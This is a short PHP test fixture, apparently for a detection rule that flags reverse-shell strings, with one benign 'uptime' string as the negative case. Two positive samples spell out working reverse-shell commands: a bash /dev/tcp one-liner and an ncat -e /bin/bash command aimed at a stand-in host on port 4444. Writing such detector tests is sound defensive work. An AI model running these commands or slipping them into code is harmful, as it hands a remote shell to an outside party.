<?php
// Fixture for generic-reverse-shell-string.
// RULEID: single-quoted /dev/tcp one-liner, ncat -e string. OK: a plain uptime command.
// ruleid: generic-reverse-shell-string
$p = 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1';
// ruleid: generic-reverse-shell-string
$q = "ncat 198.51.100.9 4444 -e /bin/bash";
// ok: generic-reverse-shell-string
$r = "uptime";
